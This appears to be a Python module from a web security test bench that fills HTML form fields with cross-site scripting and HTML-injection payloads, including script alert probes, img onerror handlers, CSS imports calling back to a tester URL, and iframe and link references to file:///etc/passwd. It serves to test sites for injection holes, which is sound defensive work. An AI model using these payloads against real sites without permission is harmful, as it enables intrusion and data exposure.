"""Filling in a form: with markup in every field, or as someone would who means it."""

from itertools import count

from bench.aanvallen.paginas import Formulier

TINY = "'\"><lek>"
SHORT = TINY + "<script>alert(1)</script>"
LONG = (
    '\'"><lek onlek=1><script>alert(1)</script><img src="{url}/img" onerror="alert(1)">'
    '<link rel="stylesheet" href="{url}/css"><style>@import url({url}/import)</style>'
    '<iframe src="file:///etc/passwd"></iframe><a rel="attachment" href="file:///etc/passwd">b</a>'
    '<a href="javascript:alert(1)">a</a>'
)
DEFAULTS = {"date": "2026-12-01", "number": "1", "time": "10:00", "datetime-local": "2026-12-01T10:00"}
STAMP = "indiening"
_numbers = count(1)


def payload(most: int, url: str) -> str:
    """Return the fullest markup that a field of this length takes."""
    long = LONG.format(url=url)
    return next((text for text in (long, SHORT, TINY) if len(text) <= most), TINY[:most])


def filled(form: Formulier, url: str, sober: set[str]) -> dict[str, list[str]]:
    """Return values with markup in every text field but the sober ones."""
    values = plausible(form, text="")
    for naam, veld in form.velden.items():
        if veld.is_text and veld.soort not in {"email", "url"} and naam not in sober:
            values[naam] = [payload(veld.most, url)]
    return values


def plausible(form: Formulier, text: str = "Proef") -> dict[str, list[str]]:
    """Return values that a form takes, as far as they can be guessed from its fields."""
    values = form.values()
    for naam, veld in form.velden.items():
        if veld.waarde:
            continue
        if veld.soort == "email":
            values[naam] = [f"lek{next(_numbers)}@voorbeeld.example"]
        elif veld.soort in DEFAULTS:
            values[naam] = [DEFAULTS[veld.soort]]
        elif veld.soort in {"text", "textarea"} and text:
            values[naam] = [text]
    return values


def smeared(form: Formulier, url: str) -> dict[str, list[str]]:
    """Return markup for every field, whatever its kind: numbers, days, choices and what is hidden too."""
    return {naam: [LONG.format(url=url)] for naam, veld in form.velden.items() if veld.soort != "file"}


def refused_fields(html: str, form: Formulier) -> set[str]:
    """Return the fields that a refused form marks."""
    boxes = 'id="keuze-fout"' in html  # the list of people to tick from
    return {
        naam
        for naam, veld in form.velden.items()
        if f'id="error_1_id_{naam}"' in html or f"id_{naam}_error" in html or (boxes and veld.soort == "checkbox")
    }
